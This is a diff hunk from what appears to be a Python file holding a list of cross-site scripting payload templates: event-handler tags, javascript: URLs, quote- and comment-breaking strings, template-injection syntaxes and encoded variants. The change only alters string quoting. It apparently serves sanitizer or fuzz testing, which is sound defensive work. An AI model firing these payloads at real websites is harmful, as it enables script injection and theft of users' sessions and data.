@@ -10,7 +10,7 @@ SHAPES = (
     "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video src=x onerror={0}>",
     "<audio src=x onerror={0}>", "<marquee onstart={0}>", "<div onmouseover={0}>x</div>", "<math href=javascript:{0}>x</math>", "<link rel=stylesheet href=javascript:{0}>",
     "<style>@import 'javascript:{0}';</style>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href=javascript:{0}//>", "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
-    "\"><img src=x onerror={0}>", "'><img src=x onerror={0}>", "\" onmouseover={0} x=\"", "' onfocus={0} autofocus x='", "`onerror={0}`",
+    '"><img src=x onerror={0}>', "'><img src=x onerror={0}>", '" onmouseover={0} x="', "' onfocus={0} autofocus x='", "`onerror={0}`",
     "${{{0}}}", "{{{{{0}}}}}", "{{% {0} %}}", "#{{{0}}}", "<%= {0} %>",
     "javascript:{0}", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "&lt;img src=x onerror={0}&gt;", "&#60;img src=x onerror={0}&#62;", "\\u003cimg src=x onerror={0}\\u003e",
     "]]><img src=x onerror={0}>", "--><img src=x onerror={0}>", "<!--><img src=x onerror={0}>", "<![CDATA[<img src=x onerror={0}>]]>", "<x onclick={0} contenteditable>x</x>",
